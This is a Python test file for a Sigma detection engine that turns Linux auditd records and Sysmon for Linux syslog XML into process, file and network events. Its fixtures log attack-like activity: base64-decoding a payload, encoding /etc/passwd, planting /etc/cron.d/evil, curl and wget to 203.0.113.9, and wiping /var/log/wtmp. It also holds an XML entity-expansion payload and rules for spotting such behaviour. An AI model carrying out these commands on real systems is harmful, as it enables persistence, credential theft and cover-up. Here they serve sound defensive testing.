"""Linux process creation (and Sysmon for Linux's other categories) as Sigma category events.

auditd: the records of each successful exec put together into one ``product: linux, category:
process_creation`` event in Sysmon for Linux's names, beside the records themselves. Sysmon for
Linux: the XML events it writes to syslog, by event id. Then SigmaHQ-style rules run through
the real engine (``run_detection``) over small logs written here.
"""

from __future__ import annotations

import io
import textwrap
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shieldwall.core.errors import ParseError
from shieldwall.detect.engine import Selection, compile_rules
from shieldwall.detect.events import RAW_FIELD, Event, LogFormat, LogSource
from shieldwall.detect.logsources import LINUX_CATEGORIES, NO_CATEGORY, targets
from shieldwall.detect.readers import ReadReport, detect_format, read_paths
from shieldwall.detect.readers.auditd import MAX_PENDING, read_auditd
from shieldwall.detect.readers.syslog import read_syslog
from shieldwall.detect.readers.sysmon_linux import parse_sysmon_xml
from shieldwall.detect.run import RunOptions, run_detection
from shieldwall.detect.sigma import load_rules

T0 = datetime(2024, 3, 3, 10, 0, tzinfo=UTC)


def hexed(text: str) -> str:
    return text.encode().hex().upper()


def syscall(
    serial: int,
    *,
    pid: int,
    ppid: int,
    exe: str,
    success: str = "yes",
    number: int = 59,
    key: str = "(null)",
    stamp: str = "1709460000.100",
) -> str:
    return (
        f"type=SYSCALL msg=audit({stamp}:{serial}): arch=c000003e syscall={number} "
        f"success={success} exit={0 if success == 'yes' else -13} a0=55d0 a1=55d1 a2=55d2 "
        f"a3=8 items=2 ppid={ppid} pid={pid} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 "
        f'fsuid=1000 egid=1000 tty=pts0 ses=7 comm="{exe.rsplit("/", 1)[-1]}" exe="{exe}" '
        f"key={key}"
    )


def record(kind: str, serial: int, body: str, *, stamp: str = "1709460000.100") -> str:
    return f"type={kind} msg=audit({stamp}:{serial}): {body}"


def execve(serial: int, *args: str, **kw: Any) -> str:
    parts = " ".join(
        f"a{i}={hexed(a)}" if (" " in a or '"' in a) else f'a{i}="{a}"' for i, a in enumerate(args)
    )
    return record("EXECVE", serial, f"argc={len(args)} {parts}", **kw)


def cwd(serial: int, path: str, **kw: Any) -> str:
    return record("CWD", serial, f'cwd="{path}"', **kw)


def path(serial: int, name: str, **kw: Any) -> str:
    return record("PATH", serial, f'item=0 name="{name}" inode=20 dev=08:01 mode=0100755', **kw)


def proctitle(serial: int, *args: str, **kw: Any) -> str:
    return record("PROCTITLE", serial, f"proctitle={hexed(chr(0).join(args))}", **kw)


def one_exec(serial: int, pid: int, ppid: int, exe: str, *args: str, **kw: Any) -> list[str]:
    return [
        syscall(serial, pid=pid, ppid=ppid, exe=exe, **kw),
        execve(serial, *args),
        cwd(serial, "/home/alice"),
        path(serial, exe),
        proctitle(serial, *args),
    ]


LOGIN_SHELL = one_exec(100, 500, 1, "/usr/bin/bash", "-bash")
DECODE = [
    syscall(101, pid=501, ppid=500, exe="/usr/bin/base64", key='"susp_exec"'),
    execve(101, "base64", "-d", "/home/alice/pay load.b64"),  # the blank: hex-encoded
    cwd(101, "/home/alice"),
    path(101, "/usr/bin/base64"),
    proctitle(101, "base64", "-d", "/home/alice/pay load.b64"),
]
FAILED = [  # EACCES: the exec failed, though its arguments were logged
    syscall(102, pid=502, ppid=500, exe="/usr/bin/bash", success="no"),
    execve(102, "base64", "-d", "/home/alice/x"),
    cwd(102, "/home/alice"),
    proctitle(102, "base64", "-d", "/home/alice/x"),
]
ENCODE = one_exec(103, 503, 500, "/usr/bin/base64", "base64", "/etc/passwd")
OPENAT = [  # another syscall: records only
    syscall(104, pid=503, ppid=500, exe="/usr/bin/base64", number=257),
    cwd(104, "/home/alice"),
    path(104, "/etc/passwd"),
    proctitle(104, "base64", "/etc/passwd"),
]
LOGIN = (
    "type=USER_LOGIN msg=audit(1709460000.200:105): pid=900 uid=0 auid=1000 ses=7 "
    'msg=\'op=login acct="alice" exe="/usr/sbin/sshd" addr=203.0.113.7 res=success\''
)


def path_record(serial: int, item: int, name: str, mode: str, nametype: str) -> str:
    return record(
        "PATH",
        serial,
        f'item={item} name="{name}" inode={9000 + item} dev=08:01 mode={mode} ouid=0 ogid=0 '
        f"rdev=00:00 nametype={nametype}",
    )


CRON_FILE = [  # bash, in /etc/cron.d, opens "evil" with O_CREAT (relative to AT_FDCWD)
    syscall(300, pid=700, ppid=500, exe="/usr/bin/bash", number=257, key='"cron"').replace(
        "a0=55d0", "a0=ffffff9c"
    ),
    cwd(300, "/etc/cron.d"),
    path_record(300, 0, "/etc/cron.d", "040755", "PARENT"),
    path_record(300, 1, "evil", "0100644", "CREATE"),
    proctitle(300, "bash"),
]
OPENED = [  # an existing file opened: not a creation
    syscall(301, pid=700, ppid=500, exe="/usr/bin/bash", number=257),
    cwd(301, "/etc/cron.d"),
    path_record(301, 0, "/etc/cron.d/daily", "0100644", "NORMAL"),
    proctitle(301, "bash"),
]
MKDIR_LIKE = [  # a directory created: left out
    syscall(302, pid=700, ppid=500, exe="/usr/bin/bash", number=257),
    path_record(302, 0, "/var/spool/x", "040700", "CREATE"),
    proctitle(302, "bash"),
]
CONNECT = [  # curl's non-blocking connect to 203.0.113.9:4444, under way (EINPROGRESS)
    syscall(310, pid=710, ppid=500, exe="/usr/bin/curl", number=42, success="no").replace(
        "exit=-13", "exit=-115"
    ),
    record("SOCKADDR", 310, "saddr=0200115CCB0071090000000000000000"),
    proctitle(310, "curl", "http://203.0.113.9:4444/"),
]
REFUSED = [  # ECONNREFUSED: no connection
    syscall(311, pid=711, ppid=500, exe="/usr/bin/curl", number=42, success="no").replace(
        "exit=-13", "exit=-111"
    ),
    record("SOCKADDR", 311, "saddr=0200115CCB0071090000000000000000"),
    proctitle(311, "curl", "http://203.0.113.9:4444/"),
]
CONNECT6 = [  # ssh to [2001:db8::1]:22
    syscall(312, pid=712, ppid=500, exe="/usr/bin/ssh", number=42),
    record("SOCKADDR", 312, "saddr=0A000016000000002001" + "0DB8" + "0" * 20 + "0001" + "0" * 8),
    proctitle(312, "ssh", "2001:db8::1"),
]
LOCAL = [  # a Unix socket: not a network connection
    syscall(313, pid=713, ppid=500, exe="/usr/bin/logger", number=42),
    record("SOCKADDR", 313, "saddr=01002F6465762F6C6F6700"),
    proctitle(313, "logger", "hi"),
]
AUDIT_LINES = [
    *LOGIN_SHELL,
    *DECODE,
    *FAILED,
    *ENCODE,
    *OPENAT,
    LOGIN,
    *CRON_FILE,
    *OPENED,
    *MKDIR_LIKE,
    *CONNECT,
    *REFUSED,
    *CONNECT6,
    *LOCAL,
]
AUDIT_LOG = "\n".join(AUDIT_LINES) + "\n"


def read_audit(text: str, name: str = "audit.log") -> tuple[list[Event], ReadReport]:
    report = ReadReport()
    events = list(read_auditd(io.BytesIO(text.encode()), name=name, report=report))
    return events, report


def processes(events: list[Event]) -> list[Event]:
    return [e for e in events if e.logsource.category == "process_creation"]


def line_of(lines: list[str], text: str) -> int:
    return lines.index(text) + 1


# ---------------------------------------------------------------------------------------------
# auditd -> process_creation


def test_each_successful_exec_is_one_process_creation_beside_its_records() -> None:
    events, report = read_audit(AUDIT_LOG)
    records = [e for e in events if e.logsource == LogSource(product="linux", service="auditd")]
    assert len(records) == len(AUDIT_LINES)  # every record is still its own event
    found = processes(events)
    assert [e.fields["serial"] for e in found] == ["100", "101", "103"]  # not 102, not 104
    assert report.events == len(events)
    decode = found[1]
    assert decode.logsource == LogSource(product="linux", category="process_creation")
    assert decode.format is LogFormat.AUDITD
    assert decode.fields["Image"] == "/usr/bin/base64"
    assert decode.fields["CommandLine"] == "base64 -d /home/alice/pay load.b64"
    assert decode.fields["CurrentDirectory"] == "/home/alice"
    assert decode.fields["ProcessId"] == "501"
    assert decode.fields["ParentProcessId"] == "500"
    assert decode.fields["User"] == "1000"  # no name in a raw log: the uid as text
    assert (decode.fields["auid"], decode.fields["ses"], decode.fields["key"]) == (
        "1000",
        "7",
        "susp_exec",
    )
    assert decode.fields[RAW_FIELD] == "\n".join(DECODE)
    assert decode.source.record == line_of(AUDIT_LINES, DECODE[0])  # its SYSCALL record
    assert decode.timestamp == datetime(2024, 3, 3, 10, 0, 0, 100000, tzinfo=UTC)
    # the parent (pid 500) exec'd earlier in the same file: its image and command line
    assert decode.fields["ParentImage"] == "/usr/bin/bash"
    assert decode.fields["ParentCommandLine"] == "-bash"
    assert "ParentImage" not in found[0].fields  # pid 1 never exec'd in this log


def test_the_process_event_follows_the_records_of_its_exec() -> None:
    events, _ = read_audit(AUDIT_LOG)
    kinds = [e.fields.get("type", "exec " + str(e.fields.get("serial"))) for e in events]
    first = kinds.index("exec 101")
    # emitted once a record of another event follows its PROCTITLE: after all of its records
    assert kinds[first - 5 : first] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]
    assert kinds[first + 1] == "SYSCALL"  # the next exec's first record brought it out


def test_interleaved_records_are_grouped_by_serial() -> None:
    a = one_exec(200, 600, 1, "/usr/bin/curl", "curl", "-s", "http://203.0.113.9/x")
    b = one_exec(201, 601, 1, "/usr/bin/chmod", "chmod", "+x", "/home/alice/x")
    lines = [b[0], a[0], a[1], b[1], b[2], a[2], a[3], b[4], b[3], a[4], LOGIN]
    found = {e.fields["serial"]: e.fields for e in processes(read_audit("\n".join(lines))[0])}
    assert found["200"]["CommandLine"] == "curl -s http://203.0.113.9/x"
    assert found["200"]["Image"] == "/usr/bin/curl"
    assert found["201"]["CommandLine"] == "chmod +x /home/alice/x"
    assert found["201"]["Image"] == "/usr/bin/chmod"
    assert found["201"][RAW_FIELD].splitlines() == [b[0], b[1], b[2], b[4], b[3]]


def test_records_before_their_syscall_still_make_the_exec() -> None:
    """ausearch-like order: the SYSCALL last."""
    lines = list(reversed(one_exec(210, 610, 1, "/usr/bin/id", "id", "-u")))
    (found,) = processes(read_audit("\n".join(lines))[0])
    assert (found.fields["Image"], found.fields["CommandLine"]) == ("/usr/bin/id", "id -u")


def test_a_failed_exec_gives_no_process_event_in_any_order() -> None:
    for lines in (FAILED, list(reversed(FAILED)), [FAILED[1], FAILED[0], *FAILED[2:]]):
        events, _ = read_audit("\n".join(lines))
        assert processes(events) == []
        assert len(events) == len(lines)


def test_without_a_syscall_record_no_exec_is_claimed() -> None:
    events, _ = read_audit("\n".join(DECODE[1:]))
    assert processes(events) == []


def test_a_missing_execve_record_falls_back_to_the_proctitle() -> None:
    lines = [DECODE[0], DECODE[2], DECODE[4]]
    (found,) = processes(read_audit("\n".join(lines))[0])
    assert found.fields["CommandLine"] == "base64 -d /home/alice/pay load.b64"
    assert found.fields["CurrentDirectory"] == "/home/alice"


def test_long_arguments_split_in_pieces_are_put_back_together() -> None:
    script = "print('é')"  # a quote: hex; the é's two bytes fall in two pieces
    raw = script.encode().hex().upper()
    cut = raw.index("C3") + 2
    lines = [
        syscall(220, pid=620, ppid=1, exe="/usr/bin/python3.12"),
        record(
            "EXECVE",
            220,
            f'argc=3 a0="python3" a1="-c" a2_len={len(script.encode())} '
            f"a2[0]={raw[:cut]} a2[1]={raw[cut:]}",
        ),
        proctitle(220, "python3", "-c", script),
    ]
    events, _ = read_audit("\n".join(lines))
    (found,) = processes(events)
    assert found.fields["CommandLine"] == "python3 -c print('é')"
    execve_record = events[1]
    assert execve_record.fields["a2_len"] == str(len(script.encode()))
    assert execve_record.fields["a2[1]"] == bytes.fromhex(raw[cut:]).decode(errors="replace")


def test_execve_arguments_over_several_records() -> None:
    lines = [
        syscall(230, pid=630, ppid=1, exe="/usr/bin/echo"),
        record("EXECVE", 230, 'argc=4 a0="echo" a1="one"'),
        record("EXECVE", 230, 'a2="two" a3="three"'),
        proctitle(230, "echo", "one", "two", "three"),
    ]
    (found,) = processes(read_audit("\n".join(lines))[0])
    assert found.fields["CommandLine"] == "echo one two three"


def test_enriched_records_name_the_user_and_other_architectures() -> None:
    lines = [
        "node=db1 type=SYSCALL msg=audit(1709460000.300:240): arch=c00000b7 syscall=221 "
        'success=yes exit=0 ppid=1 pid=640 auid=1000 uid=0 euid=0 ses=9 comm="wget" '
        'exe="/usr/bin/wget" key=(null)\x1dARCH=aarch64 SYSCALL=execve AUID="alice" '
        'UID="root" EUID="root"',
        "node=db1 " + execve(240, "wget", "http://203.0.113.9/a.sh", stamp="1709460000.300"),
        "node=db1 " + proctitle(240, "wget", "http://203.0.113.9/a.sh", stamp="1709460000.300"),
        # the same serial on another node is another event
        "node=db2 " + execve(240, "ls", stamp="1709460000.300"),
    ]
    events, report = read_audit("\n".join(lines))
    (found,) = processes(events)
    assert found.host == "db1"
    assert found.fields["User"] == "root"
    assert found.fields["AUID"] == "alice"
    assert found.fields["auid"] == "1000"
    assert found.fields["CommandLine"] == "wget http://203.0.113.9/a.sh"
    assert report.skipped == 0


def test_raw_aarch64_and_i386_execs_are_known_by_number() -> None:
    lines = []
    for serial, arch, number in (
        (250, "c00000b7", 221),
        (251, "40000003", 11),
        (252, "c00000b7", 57),
    ):
        lines.append(
            f"type=SYSCALL msg=audit(1709460000.400:{serial}): arch={arch} syscall={number} "
            f'success=yes exit=0 ppid=1 pid={serial} uid=0 comm="id" exe="/usr/bin/id"'
        )
        lines.append(proctitle(serial, "id", stamp="1709460000.400"))
    found = processes(read_audit("\n".join(lines))[0])
    assert [(e.fields["serial"], e.fields["SYSCALL"]) for e in found] == [
        ("250", "execve"),
        ("251", "execve"),
    ]  # 57 on aarch64 is close, not an exec


def test_created_files_are_file_events() -> None:
    events, _ = read_audit(AUDIT_LOG)
    files = [e for e in events if e.logsource.category == "file_event"]
    assert [(e.fields["serial"], e.fields["TargetFilename"]) for e in files] == [
        ("300", "/etc/cron.d/evil")  # made absolute with the CWD; not the opened or the dir
    ]
    (cron,) = files
    assert cron.logsource == LogSource(product="linux", category="file_event")
    assert (cron.fields["Image"], cron.fields["ProcessId"], cron.fields["key"]) == (
        "/usr/bin/bash",
        "700",
        "cron",
    )
    assert cron.source.record == line_of(AUDIT_LINES, CRON_FILE[0])


def test_a_name_relative_to_another_directory_is_kept_as_logged() -> None:
    lines = [CRON_FILE[0].replace("a0=ffffff9c", "a0=3"), *CRON_FILE[1:]]
    (found,) = [e for e in read_audit("\n".join(lines))[0] if e.logsource.category]
    assert found.fields["TargetFilename"] == "evil"


def test_connects_under_way_or_done_are_network_connections() -> None:
    events, _ = read_audit(AUDIT_LOG)
    found = {
        e.fields["serial"]: e.fields
        for e in events
        if e.logsource == LogSource(product="linux", category="network_connection")
    }
    assert set(found) == {"310", "312"}  # not the refused one, not the Unix socket
    assert (found["310"]["DestinationIp"], found["310"]["DestinationPort"]) == (
        "203.0.113.9",
        "4444",
    )
    assert (found["310"]["Initiated"], found["310"]["DestinationIsIpv6"]) == ("true", "false")
    assert found["310"]["Image"] == "/usr/bin/curl"
    assert (found["312"]["DestinationIp"], found["312"]["DestinationPort"]) == ("2001:db8::1", "22")
    assert found["312"]["DestinationIsIpv6"] == "true"


def test_the_buffer_is_bounded_the_oldest_exec_goes_with_what_it_has() -> None:
    """More execs in flight than the buffer holds: none is lost, none waits for the file's end;
    the oldest leave with what they have (their EXECVE records came too late)."""
    count = MAX_PENDING + 8
    heads = [syscall(1000 + i, pid=2000 + i, ppid=1, exe="/usr/bin/true") for i in range(count)]
    tails = [execve(1000 + i, "true", str(i)) for i in range(count)]
    events, _ = read_audit("\n".join(heads + tails))
    found = processes(events)
    assert sorted(int(e.fields["serial"]) for e in found) == list(range(1000, 1000 + count))
    early = [e for e in found if "CommandLine" not in e.fields]
    assert len(early) == count - MAX_PENDING
    assert {int(e.fields["serial"]) for e in early} == set(range(1000, 1000 + len(early)))
    assert all(
        e.fields["CommandLine"] == f"true {int(e.fields['serial']) - 1000}"
        for e in found
        if e not in early
    )


def test_a_reused_file_reads_the_same() -> None:
    first, _ = read_audit(AUDIT_LOG)
    second, _ = read_audit(AUDIT_LOG)
    assert [e.fields for e in first] == [e.fields for e in second]


# ---------------------------------------------------------------------------------------------
# Sysmon for Linux in syslog


def sysmon_line(
    event_id: int,
    data: dict[str, str],
    *,
    host: str = "web2",
    provider: str = "Linux-Sysmon",
    record_id: int = 75097,
) -> str:
    body = "".join(f'<Data Name="{k}">{escape(v)}</Data>' for k, v in data.items())
    return (
        f'Nov 24 08:30:01 {host} sysmon: <Event><System><Provider Name="{provider}" '
        'Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
        f"<EventID>{event_id}</EventID><Version>5</Version><Level>4</Level>"
        f"<Task>{event_id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
        '<TimeCreated SystemTime="2022-11-24T08:30:01.467399000Z"/>'
        f"<EventRecordID>{record_id}</EventRecordID><Correlation/>"
        '<Execution ProcessID="1109" ThreadID="1109"/>'
        f"<Channel>Linux-Sysmon/Operational</Channel><Computer>{host}</Computer>"
        f'<Security UserId="0"/></System><EventData>{body}</EventData></Event>'
    )


def process(image: str, command: str, **extra: str) -> dict[str, str]:
    return {
        "RuleName": "-",
        "UtcTime": "2022-11-24 08:30:01.467",
        "ProcessGuid": "{c9eb4a87-2b89-637f-700c-0807f5550000}",
        "ProcessId": "3372",
        "Image": image,
        "FileVersion": "-",
        "OriginalFileName": "-",
        "CommandLine": command,
        "CurrentDirectory": "/root",
        "User": "root",
        "LogonId": "0",
        "ParentProcessId": "3371",
        "ParentImage": "/usr/bin/bash",
        "ParentCommandLine": "bash",
        "ParentUser": "root",
        **extra,
    }


SYSMON_DECODE = sysmon_line(1, process("/usr/bin/base64", "base64 -d /tmp/p.b64"))
SYSMON_LS = sysmon_line(1, process("/usr/bin/ls", "ls -la && id"))
SYSMON_CONNECT = sysmon_line(
    3,
    {
        "ProcessId": "3380",
        "Image": "/usr/bin/curl",
        "User": "root",
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIp": "192.168.2.2",
        "SourcePort": "37678",
        "DestinationIp": "203.0.113.9",
        "DestinationPort": "4444",
    },
)
SYSMON_FILE = sysmon_line(
    11, {"ProcessId": "3381", "Image": "/usr/bin/bash", "TargetFilename": "/etc/cron.d/evil"}
)
SYSMON_DELETE = sysmon_line(
    23, {"ProcessId": "3382", "Image": "/usr/bin/rm", "TargetFilename": "/var/log/wtmp"}
)
SYSMON_EXIT = sysmon_line(5, {"ProcessId": "3372", "Image": "/usr/bin/base64", "User": "root"})
SYSMON_UNKNOWN_ID = sysmon_line(99, {"Image": "/usr/bin/x"})
OTHER_PROVIDER = sysmon_line(1, process("/usr/bin/base64", "base64 -d"), provider="Other")
BROKEN = "Nov 24 08:30:02 web2 sysmon: <Event><System><EventID>1</EventID></Sys"
BOMB = (
    'Nov 24 08:30:03 web2 sysmon: <!DOCTYPE Event [<!ENTITY a "aaaaaaaaaa">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><Event><System><Provider Name="Linux-Sysmon"/>'
    '<EventID>1</EventID></System><EventData><Data Name="Image">&b;</Data></EventData></Event>'
)
PLAIN = "Nov 24 08:30:04 web2 systemd[1]: Started Sysmon event logger."
SYSLOG_LINES = [
    PLAIN,
    SYSMON_DECODE,
    SYSMON_LS,
    SYSMON_CONNECT,
    SYSMON_FILE,
    SYSMON_DELETE,
    SYSMON_EXIT,
    SYSMON_UNKNOWN_ID,
    OTHER_PROVIDER,
    BROKEN,
    BOMB,
]
SYSLOG = "\n".join(SYSLOG_LINES) + "\n"


def read_sysmon(text: str) -> tuple[list[Event], ReadReport]:
    report = ReadReport()
    events = list(read_syslog(io.BytesIO(text.encode()), name="syslog", report=report, year=2022))
    return events, report


def test_sysmon_events_get_their_category_beside_the_syslog_line() -> None:
    events, report = read_sysmon(SYSLOG)
    lines = [e for e in events if e.logsource.category is None]
    assert len(lines) == len(SYSLOG_LINES)  # every line is still a syslog event
    assert all(e.logsource.matches(product="linux", service="syslog") for e in lines)
    made = [e for e in events if e.logsource.category is not None]
    by_line = {e.source.record: e for e in made}
    want = {
        SYSMON_DECODE: "process_creation",
        SYSMON_LS: "process_creation",
        SYSMON_CONNECT: "network_connection",
        SYSMON_FILE: "file_event",
        SYSMON_DELETE: "file_delete",
        SYSMON_EXIT: "process_termination",
    }
    assert {line_of(SYSLOG_LINES, k): v for k, v in want.items()} == {
        n: e.logsource.category for n, e in by_line.items()
    }
    assert all(e.logsource.product == "linux" and e.channel is None for e in made)
    assert report.events == len(events)
    # the broken message is reported, by line (a message that does not start with <Event>,
    # such as one with a DTD, is not Sysmon's: a syslog line only)
    assert [(e.code, e.location) for e in report.errors] == [
        ("detect.read.sysmon_linux", f"syslog:{line_of(SYSLOG_LINES, BROKEN)}")
    ]
    assert report.skipped == 1


def test_sysmon_fields_are_the_data_names_and_the_system_values() -> None:
    events, _ = read_sysmon(SYSMON_DECODE + "\n" + SYSMON_LS + "\n" + SYSMON_CONNECT)
    decode, ls, connect = (e for e in events if e.logsource.category)
    assert decode.fields["Image"] == "/usr/bin/base64"
    assert decode.fields["CommandLine"] == "base64 -d /tmp/p.b64"
    assert decode.fields["ParentImage"] == "/usr/bin/bash"
    assert decode.fields["User"] == "root"
    assert decode.fields["EventID"] == 1
    assert decode.fields["Provider_Name"] == "Linux-Sysmon"
    assert decode.fields["Channel"] == "Linux-Sysmon/Operational"
    assert decode.fields["ProcessID"] == "1109"  # Execution, beside the Data's ProcessId
    assert decode.fields["ProcessId"] == "3372"
    assert decode.fields[RAW_FIELD] == SYSMON_DECODE
    assert decode.host == "web2"
    assert decode.timestamp == datetime(2022, 11, 24, 8, 30, 1, 467399, tzinfo=UTC)
    assert ls.fields["CommandLine"] == "ls -la && id"  # &amp; decoded
    assert connect.fields["DestinationPort"] == "4444"
    assert connect.fields["Initiated"] == "true"


def test_a_document_type_is_refused_not_expanded() -> None:
    with pytest.raises(ParseError, match="document type") as info:
        parse_sysmon_xml(BOMB.split("sysmon: ", 1)[1], location="x:1")
    assert info.value.location == "x:1"
    inside = BOMB.split("sysmon: ", 1)[1].replace("<Event>", "", 1).replace("<!D", "<Event><!D")
    with pytest.raises(ParseError, match="not well-formed"):
        parse_sysmon_xml(inside)


def test_a_syslog_file_of_sysmon_lines_is_detected_as_syslog() -> None:
    assert detect_format(SYSLOG.encode()) is LogFormat.SYSLOG


# ---------------------------------------------------------------------------------------------
# Logsources: which rules reach the category events


def test_linux_categories_map_to_the_category_events() -> None:
    for category in ("process_creation", "file_event", "network_connection"):
        (target,), why = targets("linux", category, None)
        assert why is None
        assert (target.product, target.category, target.fields) == ("linux", category, {})
    assert {"process_creation", "file_event", "network_connection"} <= LINUX_CATEGORIES
    found, why = targets("linux", "registry_set", None)
    assert found == []
    assert why is not None
    assert "registry_set" in why
    (plain,), _ = targets("linux", None, "auditd")
    assert plain.category == NO_CATEGORY


# ---------------------------------------------------------------------------------------------
# End to end: SigmaHQ-style rules through the real engine


def sigma(title: str, logsource: str, detection: str) -> str:
    body = textwrap.indent(textwrap.dedent(detection).strip("\n"), "    ")
    return (
        textwrap.dedent(f"""\
        title: {title}
        status: test
        description: {title}
        logsource:
        """)
        + textwrap.indent(logsource, "    ")
        + f"\ndetection:\n{body}\nlevel: high\n"
    )


RULES = {
    "decode.yml": sigma(
        "Base64 Decode On Linux",
        "product: linux\ncategory: process_creation",
        """
        selection:
            Image|endswith: '/base64'
            CommandLine|contains: ' -d'
        condition: selection
        """,
    ),
    "parent.yml": sigma(
        "Bash Spawns Base64",
        "product: linux\ncategory: process_creation",
        """
        selection:
            ParentImage|endswith: '/bash'
            Image|endswith: '/base64'
        condition: selection
        """,
    ),
    "connect.yml": sigma(
        "Outbound To Port 4444",
        "product: linux\ncategory: network_connection",
        """
        selection:
            Initiated: 'true'
            DestinationPort: 4444
        condition: selection
        """,
    ),
    "cron.yml": sigma(
        "File Created In Cron Folder",
        "product: linux\ncategory: file_event",
        """
        selection:
            TargetFilename|startswith: '/etc/cron.d/'
        condition: selection
        """,
    ),
    "auditd.yml": sigma(
        "Base64 Decode In EXECVE",
        "product: linux\nservice: auditd",
        """
        selection:
            type: 'EXECVE'
            a0: 'base64'
            a1: '-d'
        condition: selection
        """,
    ),
    "keyword.yml": sigma(
        "Audit Key Susp Exec",
        "product: linux",
        """
        keywords:
            - 'susp_exec'
        condition: keywords
        """,
    ),
}


@pytest.fixture
def detected(tmp_path: Path) -> dict[str, set[tuple[str, int]]]:
    rules = tmp_path / "rules"
    rules.mkdir()
    for name, doc in RULES.items():
        (rules / name).write_text(doc, encoding="utf-8")
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "audit.log").write_text(AUDIT_LOG, encoding="utf-8")
    (logs / "syslog").write_text(SYSLOG, encoding="utf-8")
    result = run_detection([logs], RunOptions(rules=[rules]), now=lambda: T0)
    assert result.compile_report.failures == []
    assert result.compiled == len(RULES)
    out: dict[str, set[tuple[str, int]]] = {}
    for alert in result.alerts:
        where = (Path(alert.source.file).name, alert.source.record)
        out.setdefault(alert.rule.title, set()).add(where)
    return out


def test_linux_process_rules_fire_on_exactly_the_right_events(
    detected: dict[str, set[tuple[str, int]]],
) -> None:
    decode_exec = ("audit.log", line_of(AUDIT_LINES, DECODE[0]))
    sysmon_decode = ("syslog", line_of(SYSLOG_LINES, SYSMON_DECODE))
    # not the failed exec, not base64 without -d, not the records, not the other provider
    assert detected["Base64 Decode On Linux"] == {decode_exec, sysmon_decode}
    # ParentImage: from the login shell's exec in the same audit log, and from Sysmon
    encode_exec = ("audit.log", line_of(AUDIT_LINES, ENCODE[0]))
    assert detected["Bash Spawns Base64"] == {decode_exec, encode_exec, sysmon_decode}
    assert detected["Outbound To Port 4444"] == {
        ("syslog", line_of(SYSLOG_LINES, SYSMON_CONNECT)),
        ("audit.log", line_of(AUDIT_LINES, CONNECT[0])),
    }
    assert detected["File Created In Cron Folder"] == {
        ("syslog", line_of(SYSLOG_LINES, SYSMON_FILE)),
        ("audit.log", line_of(AUDIT_LINES, CRON_FILE[0])),
    }


def test_auditd_and_plain_linux_rules_still_see_the_records_once(
    detected: dict[str, set[tuple[str, int]]],
) -> None:
    # the EXECVE records of the exec and of the failed one: auditd rules see records
    assert detected["Base64 Decode In EXECVE"] == {
        ("audit.log", line_of(AUDIT_LINES, DECODE[1])),
        ("audit.log", line_of(AUDIT_LINES, FAILED[1])),
    }
    # a keyword rule with no category: the SYSCALL record, not again the exec made from it
    assert detected["Audit Key Susp Exec"] == {("audit.log", line_of(AUDIT_LINES, DECODE[0]))}


def test_the_engine_reaches_process_events_only_with_category_rules(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    for name in ("decode.yml", "keyword.yml"):
        (rules / name).write_text(RULES[name], encoding="utf-8")
    engine, _ = compile_rules(load_rules(rules), Selection())
    audit = tmp_path / "audit.log"
    audit.write_text(AUDIT_LOG, encoding="utf-8")
    for event in read_paths([audit], report=ReadReport()):
        hits = {a.rule.title for a in engine.match(event)}
        if event.logsource.category == "process_creation":
            assert "Audit Key Susp Exec" not in hits
        else:
            assert "Base64 Decode On Linux" not in hits


# ---------------------------------------------------------------------------------------------
# Property: any order, any loss, any cut


def _exec_lines(index: int, ok: bool) -> list[str]:
    serial = 5000 + index
    exe = f"/usr/bin/tool{index}"
    return [
        syscall(serial, pid=7000 + index, ppid=1, exe=exe, success="yes" if ok else "no"),
        execve(serial, f"tool{index}", "-x", "a b"),
        cwd(serial, "/srv"),
        path(serial, exe),
        proctitle(serial, f"tool{index}", "-x"),
    ]


@st.composite
def shuffled_execs(draw: st.DrawFn) -> tuple[str, set[str], set[str]]:
    outcomes = draw(st.lists(st.booleans(), min_size=1, max_size=6))
    lines = [line for i, ok in enumerate(outcomes) for line in _exec_lines(i, ok)]
    order = draw(st.permutations(range(len(lines))))
    kept: list[str] = []
    damaged: set[str] = set()
    for position in order:
        line = lines[position]
        serial = str(5000 + position // 5)
        fate = draw(st.sampled_from(["keep", "keep", "keep", "drop", "cut"]))
        if fate == "drop":
            damaged.add(serial)
        elif fate == "cut":
            damaged.add(serial)
            kept.append(line[: draw(st.integers(0, len(line)))])
        else:
            kept.append(line)
    succeeded = {str(5000 + i) for i, ok in enumerate(outcomes) if ok}
    failed = {str(5000 + i) for i, ok in enumerate(outcomes) if not ok}
    return "\n".join(kept), failed, succeeded - damaged


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(shuffled_execs())
def test_any_interleaving_or_truncation_never_claims_a_failed_exec(
    case: tuple[str, set[str], set[str]],
) -> None:
    text, failed, intact = case
    events, report = read_audit(text, name="fuzz")
    found = [e.fields["serial"] for e in events if e.logsource.category is not None]
    assert all(e.logsource.category == "process_creation" for e in events if e.logsource.category)
    assert not set(found) & failed
    assert len(found) == len(set(found))  # one event per exec at most
    assert intact <= set(found)  # an exec with all its records is never lost
    for error in report.errors:
        assert (error.location or "").startswith("fuzz:")


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.one_of(
            st.sampled_from(SYSLOG_LINES),
            st.sampled_from(SYSLOG_LINES).flatmap(
                lambda line: st.integers(0, len(line)).map(lambda cut: line[:cut])
            ),
            st.text(max_size=120).map(lambda t: "Nov 24 08:30:01 web2 sysmon: <Event>" + t),
        ),
        max_size=8,
    )
)
def test_arbitrary_sysmon_messages_never_crash_the_syslog_reader(lines: list[str]) -> None:
    text = "\n".join(line.replace("\n", " ").replace("\r", " ") for line in lines)
    events, report = read_sysmon(text)
    for event in events:
        if event.logsource.category is not None:
            assert event.fields["Provider_Name"] == "Linux-Sysmon"
            assert event.logsource.category in LINUX_CATEGORIES
    for error in report.errors:
        assert isinstance(error, ParseError)
        assert (error.location or "").startswith("syslog:")
